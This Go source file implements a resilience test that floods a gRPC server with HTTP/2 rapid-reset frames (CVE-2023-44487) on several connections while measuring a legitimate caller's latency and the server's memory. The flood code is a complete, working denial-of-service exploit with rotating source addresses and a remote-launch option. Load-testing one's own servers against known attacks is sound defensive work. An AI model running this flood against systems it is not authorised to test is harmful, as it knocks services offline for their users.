// Command rapidreset floods a gRPC server with HTTP/2 rapid resets
// (CVE-2023-44487: HEADERS immediately followed by RST_STREAM, over and
// over, on N connections) while one legitimate caller runs Lists against
// the same address, and prints what the flood cost that caller and the
// server: List latency before, during and after the flood, and the
// server's resident memory.
//
// It writes raw frames with golang.org/x/net/http2's Framer, so the flood
// is exactly what an attacker sends, not what a well-behaved client would.
//
// Exit status: 0 when the costs are within -max-p99-ratio and
// -max-rss-ratio (when set), 1 when a bound is exceeded, 2 on usage or
// setup errors.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/informerd/informerd/client/go/connection"
	"github.com/informerd/informerd/client/go/informerdv1"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

type settings struct {
	address     string
	useTLS      bool
	caFile      string
	serverName  string
	tokenFile   string
	connections int
	flood       time.Duration
	window      time.Duration
	settle      time.Duration
	callTimeout time.Duration
	interval    time.Duration
	group       string
	resource    string
	namespace   string
	pid         int
	maxP99      float64
	maxRSS      float64
	noFailures  bool
	path        string
	floodBind   []string
	withBody    bool
	batch       int
	gap         time.Duration
	floodOnly   bool
	floodCPUs   string
	floodNice   int
	floodVia    []string
}

func parseFlags() settings {
	var s settings
	flag.StringVar(&s.address, "address", "", "host:port of the gRPC server (or the proxy in front of it); required")
	flag.BoolVar(&s.useTLS, "tls", false, "speak TLS (ALPN h2); the flood does not verify the certificate, the caller does with -ca-file")
	flag.StringVar(&s.caFile, "ca-file", "", "PEM CA the legitimate caller verifies the server with (with -tls)")
	flag.StringVar(&s.serverName, "server-name", "", "name the caller verifies the certificate against; empty: the host of -address")
	flag.StringVar(&s.tokenFile, "token-file", "", "bearer token file for the legitimate caller")
	flag.IntVar(&s.connections, "connections", 2, "connections the flood uses at once (each is reopened when the server closes it)")
	flag.DurationVar(&s.flood, "duration", 15*time.Second, "how long the flood lasts")
	flag.DurationVar(&s.window, "window", 0, "how long the caller is measured before and after the flood; 0: -duration")
	flag.DurationVar(&s.settle, "settle", 3*time.Second, "caller warm-up before the first window (connection, caches)")
	flag.DurationVar(&s.callTimeout, "call-timeout", 5*time.Second, "deadline of each List; a List that misses it counts as taking it")
	flag.DurationVar(&s.interval, "interval", 30*time.Millisecond, "the caller starts a List at most this often (informerd limits a caller's request rate)")
	flag.StringVar(&s.group, "group", "", "API group of the listed resource")
	flag.StringVar(&s.resource, "resource", "configmaps", "resource the caller lists")
	flag.StringVar(&s.namespace, "namespace", "", "namespace the caller lists; empty: all")
	flag.IntVar(&s.pid, "pid", 0, "pid of the server whose VmRSS is sampled (0: not measured)")
	flag.Float64Var(&s.maxP99, "max-p99-ratio", 0, "fail (exit 1) when the caller's List p99 during or after the flood exceeds this multiple of its p99 before; 0: report only")
	flag.Float64Var(&s.maxRSS, "max-rss-ratio", 0, "fail (exit 1) when the server's peak VmRSS during or after the flood exceeds this multiple of its VmRSS before; 0: report only")
	flag.BoolVar(&s.noFailures, "no-failed-lists", false, "fail (exit 1) when any List during or after the flood failed (e.g. missed its -call-timeout)")
	flag.StringVar(&s.path, "path", "/informerd.v1.Cache/List", ":path of the flood's requests")
	flag.BoolVar(&s.withBody, "with-body", false, "send each stream's request message (an empty gRPC message, END_STREAM) before its RST_STREAM, so that a proxy that waits for whole requests forwards them")
	flag.IntVar(&s.batch, "batch", 64, "streams opened per round before their resets are written")
	flag.DurationVar(&s.gap, "gap", 0, "wait between a round's HEADERS and its RST_STREAMs; 0: each RST_STREAM follows its HEADERS at once")
	floodVia := flag.String("flood-via", "", "space-separated command that runs this tool's flood process elsewhere, given the flood's arguments after it, e.g. \"kubectl exec -n attacker flood -- /flood/rapidreset\" (a flood from a pod); empty: this binary on this machine")
	floodBind := flag.String("flood-bind", "", "comma-separated local addresses the flood's connections come from, one after another (e.g. 127.0.0.2,127.0.0.3: several sources on loopback); empty: the system's choice")
	flag.BoolVar(&s.floodOnly, "flood-only", false, "only flood, for -duration, and print what was sent (no caller, no report); how the tool runs its own flood process")
	flag.StringVar(&s.floodCPUs, "flood-cpus", "", "CPU list (taskset -c syntax) the flood process runs on, e.g. 1; empty: any")
	flag.IntVar(&s.floodNice, "flood-nice", 0, "niceness of the flood process (0..19): on a shared machine, a flood that yields to the server measures the server's cost, not the attacker's")
	flag.Parse()
	if s.address == "" || s.connections < 1 || s.flood <= 0 {
		fmt.Fprintln(os.Stderr, "rapidreset: -address is required, -connections >= 1, -duration > 0")
		os.Exit(2)
	}
	if *floodBind != "" {
		s.floodBind = strings.Split(*floodBind, ",")
	}
	s.floodVia = strings.Fields(*floodVia)
	if s.batch < 1 {
		fmt.Fprintln(os.Stderr, "rapidreset: -batch must be at least 1")
		os.Exit(2)
	}
	if s.window == 0 {
		s.window = s.flood
	}
	return s
}

// ---- the flood ----

// floodStats counts what the flood did, across connections.
type floodStats struct {
	resets      atomic.Int64
	connections atomic.Int64
	goaways     atomic.Int64
	dialErrors  atomic.Int64
}

func dialRaw(s settings, from string) (net.Conn, error) {
	dialer := net.Dialer{Timeout: 5 * time.Second}
	if from != "" {
		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from)}
	}
	conn, err := dialer.Dial("tcp", s.address)
	if err != nil {
		return nil, err
	}
	if !s.useTLS {
		return conn, nil
	}
	tc := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if err := tc.Handshake(); err != nil {
		conn.Close()
		return nil, err
	}
	tc.SetDeadline(time.Time{})
	if tc.ConnectionState().NegotiatedProtocol != "h2" {
		conn.Close()
		return nil, errors.New("server did not negotiate h2 by ALPN")
	}
	return tc, nil
}

// requestHeaders is one HPACK block of a gRPC request, encoded once: the
// flood resends the same bytes on every stream.
func requestHeaders(s settings) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	enc.SetMaxDynamicTableSizeLimit(0)
	scheme := "http"
	if s.useTLS {
		scheme = "https"
	}
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: scheme},
		{Name: ":path", Value: s.path},
		{Name: ":authority", Value: s.address},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		f.Sensitive = true // never indexed: each block stands alone
		enc.WriteField(f)
	}
	return buf.Bytes()
}

// floodOne keeps one connection sending HEADERS + RST_STREAM until stop,
// reopening it whenever the server ends it.
func floodOne(s settings, from string, block []byte, stop <-chan struct{}, stats *floodStats) {
	var body []byte
	if s.withBody {
		body = make([]byte, 5) // uncompressed, length 0: an empty request message
	}
	for {
		select {
		case <-stop:
			return
		default:
		}
		conn, err := dialRaw(s, from)
		if err != nil {
			stats.dialErrors.Add(1)
			select {
			case <-stop:
				return
			case <-time.After(10 * time.Millisecond):
			}
			continue
		}
		stats.connections.Add(1)
		floodConnection(conn, block, body, s.batch, s.gap, stop, stats)
		conn.Close()
	}
}

func floodConnection(conn net.Conn, block, body []byte, batch int, gap time.Duration, stop <-chan struct{}, stats *floodStats) {
	w := bufio.NewWriterSize(conn, 64<<10)
	if _, err := io.WriteString(w, http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(w, conn)
	if err := framer.WriteSettings(); err != nil {
		return
	}
	// The reader acknowledges the server's SETTINGS and PINGs (a server may
	// close a peer that never does) and drains what it sends, so the flood
	// never stalls on a full socket; it ends the connection on GOAWAY.
	done := make(chan struct{})
	var mu sync.Mutex // the Framer's writes
	go func() {
		defer close(done)
		rf := http2.NewFramer(io.Discard, conn)
		rf.SetMaxReadFrameSize(1 << 24)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					mu.Lock()
					framer.WriteSettingsAck()
					w.Flush()
					mu.Unlock()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					mu.Lock()
					framer.WritePing(true, f.Data)
					w.Flush()
					mu.Unlock()
				}
			case *http2.GoAwayFrame:
				stats.goaways.Add(1)
				return
			}
		}
	}()
	// A server that stops reading would block a write for ever: the end of
	// the flood closes the connection under it.
	go func() {
		select {
		case <-stop:
			conn.Close()
		case <-done:
		}
	}()
	defer func() { conn.Close(); <-done }()
	// A round opens -batch streams, flushes, waits -gap (so that a proxy
	// has forwarded them), then resets them all. -gap 0 writes each
	// stream's RST_STREAM right after its HEADERS.
	next := uint32(1)
	for next < 1<<31-2*uint32(batch)-2 {
		select {
		case <-stop:
			return
		case <-done:
			return
		default:
		}
		first := next
		mu.Lock()
		var err error
		for i := 0; i < batch && err == nil; i++ {
			id := first + 2*uint32(i)
			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
			if err == nil && body != nil {
				err = framer.WriteData(id, true, body)
			}
			if err == nil && gap == 0 {
				err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}
		}
		if err == nil && gap > 0 {
			if err = w.Flush(); err == nil {
				mu.Unlock()
				time.Sleep(gap)
				mu.Lock()
			}
			for i := 0; i < batch && err == nil; i++ {
				err = framer.WriteRSTStream(first+2*uint32(i), http2.ErrCodeCancel)
			}
		}
		if err == nil {
			// Counted once on the socket, not when buffered.
			if err = w.Flush(); err == nil {
				stats.resets.Add(int64(batch))
			}
		}
		mu.Unlock()
		if err != nil {
			return
		}
		next = first + 2*uint32(batch)
	}
}

// ---- the legitimate caller ----

type sample struct {
	at      time.Time
	latency time.Duration
	code    codes.Code
}

// runCaller Lists until stop is closed, then returns once its last List
// has ended, so that a List still waiting at the end is counted too.
func runCaller(ctx context.Context, s settings, stop <-chan struct{}, out chan<- sample) error {
	opts := connection.Options{Addresses: []string{s.address}, TokenFile: s.tokenFile}
	if s.useTLS {
		opts.TLS = &connection.TLSOptions{CAFile: s.caFile, ServerName: s.serverName}
	} else if s.tokenFile != "" {
		opts.AllowTokenWithoutTLS = true
	}
	conn, err := connection.Dial(ctx, opts)
	if err != nil {
		return err
	}
	defer conn.Close()
	client := informerdv1.NewCacheClient(conn)
	req := &informerdv1.ListRequest{
		Resource:  &informerdv1.ResourceName{Group: s.group, Resource: s.resource},
		Namespace: s.namespace,
	}
	tick := time.NewTicker(s.interval)
	defer tick.Stop()
	for ctx.Err() == nil {
		select {
		case <-stop:
			return nil
		case <-tick.C:
		}
		start := time.Now()
		callCtx, cancel := context.WithTimeout(ctx, s.callTimeout)
		_, err := client.List(callCtx, req)
		cancel()
		latency := time.Since(start)
		code := status.Code(err)
		if code != codes.OK {
			latency = max(latency, s.callTimeout)
		}
		out <- sample{at: start, latency: latency, code: code}
		if code != codes.OK && code != codes.DeadlineExceeded && code != codes.Unavailable {
			return fmt.Errorf("List: %v", err)
		}
	}
	return nil
}

// ---- memory ----

func vmRSS(pid int) (int64, error) {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, err
	}
	for _, line := range strings.Split(string(data), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			return kb * 1024, err
		}
	}
	return 0, errors.New("no VmRSS line")
}

// ---- report ----

type phase struct {
	name      string
	from, to  time.Time
	latencies []time.Duration
	failures  map[codes.Code]int
	p50, p99  time.Duration
}

func (p *phase) finish() {
	sort.Slice(p.latencies, func(i, j int) bool { return p.latencies[i] < p.latencies[j] })
	quantile := func(q float64) time.Duration {
		if len(p.latencies) == 0 {
			return 0
		}
		i := int(q*float64(len(p.latencies))+0.999999) - 1
		return p.latencies[min(max(i, 0), len(p.latencies)-1)]
	}
	p.p50, p.p99 = quantile(0.5), quantile(0.99)
}

func ms(d time.Duration) string { return fmt.Sprintf("%.2f ms", float64(d.Microseconds())/1000) }

// floodFor runs the flood on s.connections connections for s.flood and
// prints one line of what it sent, which the parent reads.
func floodFor(s settings) {
	var stats floodStats
	stop := make(chan struct{})
	var wg sync.WaitGroup
	block := requestHeaders(s)
	for i := 0; i < s.connections; i++ {
		wg.Add(1)
		from := ""
		if len(s.floodBind) > 0 {
			from = s.floodBind[i%len(s.floodBind)]
		}
		go func() { defer wg.Done(); floodOne(s, from, block, stop, &stats) }()
	}
	time.Sleep(s.flood)
	close(stop)
	wg.Wait()
	fmt.Printf("%d HEADERS+RST_STREAM pairs sent, %d connections opened, %d GOAWAYs, %d failed dials\n",
		stats.resets.Load(), stats.connections.Load(), stats.goaways.Load(), stats.dialErrors.Load())
}

// startFlood runs this binary again with -flood-only, so that the flood
// is a process of its own (pinned and niced apart from the caller, whose
// latency it must not distort by sharing its Go scheduler).
func startFlood(s settings) (*exec.Cmd, *bytes.Buffer, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, nil, err
	}
	if len(s.floodVia) > 0 {
		self = s.floodVia[0]
	}
	args := []string{self}
	if len(s.floodVia) > 1 {
		args = append(args, s.floodVia[1:]...)
	}
	args = append(args, "-flood-only", "-address", s.address, "-connections", strconv.Itoa(s.connections),
		"-duration", s.flood.String(), "-path", s.path, "-tls="+strconv.FormatBool(s.useTLS),
		"-with-body="+strconv.FormatBool(s.withBody), "-flood-bind", strings.Join(s.floodBind, ","), "-batch", strconv.Itoa(s.batch), "-gap", s.gap.String())
	if s.floodNice != 0 {
		args = append([]string{"nice", "-n", strconv.Itoa(s.floodNice)}, args...)
	}
	if s.floodCPUs != "" {
		args = append([]string{"taskset", "-c", s.floodCPUs}, args...)
	}
	cmd := exec.Command(args[0], args[1:]...)
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = os.Stderr
	return cmd, &out, cmd.Start()
}

func main() {
	s := parseFlags()
	if s.floodOnly {
		floodFor(s)
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	samples := make(chan sample, 1<<16)
	callerErr := make(chan error, 1)
	stopCalls := make(chan struct{})
	go func() { callerErr <- runCaller(ctx, s, stopCalls, samples) }()

	if s.pid != 0 {
		if _, err := vmRSS(s.pid); err != nil {
			fmt.Fprintf(os.Stderr, "rapidreset: -pid %d: %v\n", s.pid, err)
			os.Exit(2)
		}
	}
	var rssAtFloodStart, rssPeak int64
	sampleRSS := func() {
		if s.pid == 0 {
			return
		}
		if v, err := vmRSS(s.pid); err == nil {
			rssPeak = max(rssPeak, v)
		}
	}

	start := time.Now().Add(s.settle)
	phases := []*phase{
		{name: "before", from: start, to: start.Add(s.window)},
		{name: "during", from: start.Add(s.window), to: start.Add(s.window + s.flood)},
		{name: "after", from: start.Add(s.window + s.flood), to: start.Add(2*s.window + s.flood)},
	}
	for _, p := range phases {
		p.failures = map[codes.Code]int{}
	}
	end := phases[2].to

	collect := func(smp sample) {
		for _, p := range phases {
			if !smp.at.Before(p.from) && smp.at.Before(p.to) {
				p.latencies = append(p.latencies, smp.latency)
				if smp.code != codes.OK {
					p.failures[smp.code]++
				}
			}
		}
	}

	var flood *exec.Cmd
	var floodOut *bytes.Buffer
	floodDone := make(chan error, 1)
	ticker := time.NewTicker(100 * time.Millisecond)
	defer ticker.Stop()
	for {
		select {
		case smp := <-samples:
			collect(smp)
			continue
		case err := <-callerErr:
			if err != nil {
				fmt.Fprintf(os.Stderr, "rapidreset: legitimate caller: %v\n", err)
				os.Exit(2)
			}
			callerErr = nil
		case err := <-floodDone:
			if err != nil {
				fmt.Fprintf(os.Stderr, "rapidreset: flood process: %v\n", err)
				os.Exit(2)
			}
			floodDone = nil
		case <-ticker.C:
		}
		now := time.Now()
		if flood == nil && !now.Before(phases[1].from) {
			if s.pid != 0 {
				rssAtFloodStart, _ = vmRSS(s.pid)
				rssPeak = rssAtFloodStart
			}
			var err error
			if flood, floodOut, err = startFlood(s); err != nil {
				fmt.Fprintf(os.Stderr, "rapidreset: flood process: %v\n", err)
				os.Exit(2)
			}
			go func() { floodDone <- flood.Wait() }()
		}
		if flood != nil {
			sampleRSS()
		}
		if !now.Before(end) {
			break
		}
	}
	close(stopCalls)
	if callerErr != nil {
		for waiting := true; waiting; {
			select {
			case smp := <-samples:
				collect(smp)
			case err := <-callerErr:
				if err != nil {
					fmt.Fprintf(os.Stderr, "rapidreset: legitimate caller: %v\n", err)
					os.Exit(2)
				}
				waiting = false
			}
		}
	}
	cancel()
	for drained := false; !drained; {
		select {
		case smp := <-samples:
			collect(smp)
		default:
			drained = true
		}
	}
	if floodDone != nil {
		if err := <-floodDone; err != nil {
			fmt.Fprintf(os.Stderr, "rapidreset: flood process: %v\n", err)
			os.Exit(2)
		}
	}

	fmt.Printf("flood: %d connections for %s against %s (tls=%v): %s", s.connections, s.flood, s.address, s.useTLS, floodOut.String())
	fmt.Printf("%-8s %8s %12s %12s  %s\n", "phase", "Lists", "p50", "p99", "failures")
	for _, p := range phases {
		p.finish()
		var failures []string
		for code, n := range p.failures {
			failures = append(failures, fmt.Sprintf("%s %d", code, n))
		}
		sort.Strings(failures)
		fmt.Printf("%-8s %8d %12s %12s  %s\n", p.name, len(p.latencies), ms(p.p50), ms(p.p99), strings.Join(failures, ", "))
	}
	failed := false
	before := phases[0]
	if len(before.latencies) == 0 || before.p99 == 0 || len(before.failures) > 0 {
		fmt.Println("rapidreset: the caller had no clean unflooded window to compare with")
		os.Exit(2)
	}
	worst := max(phases[1].p99, phases[2].p99)
	p99Ratio := float64(worst) / float64(before.p99)
	if len(phases[1].latencies) == 0 {
		p99Ratio = float64(s.flood) / float64(before.p99) // not one List completed during the flood
	}
	fmt.Printf("caller List p99 ratio (worst of during/after vs before): %.2f\n", p99Ratio)
	if s.maxP99 > 0 && p99Ratio > s.maxP99 {
		fmt.Printf("FAIL: p99 ratio %.2f exceeds %.2f\n", p99Ratio, s.maxP99)
		failed = true
	}
	if failedLists := len(phases[1].failures) + len(phases[2].failures); s.noFailures && failedLists > 0 {
		fmt.Println("FAIL: Lists failed during or after the flood")
		failed = true
	}
	if s.pid != 0 {
		sampleRSS()
		rssRatio := float64(rssPeak) / float64(rssAtFloodStart)
		fmt.Printf("server VmRSS: %.1f MiB before the flood, %.1f MiB peak during and after; ratio %.2f\n",
			float64(rssAtFloodStart)/(1<<20), float64(rssPeak)/(1<<20), rssRatio)
		if s.maxRSS > 0 && rssRatio > s.maxRSS {
			fmt.Printf("FAIL: RSS ratio %.2f exceeds %.2f\n", rssRatio, s.maxRSS)
			failed = true
		}
	}
	if failed {
		os.Exit(1)
	}
}
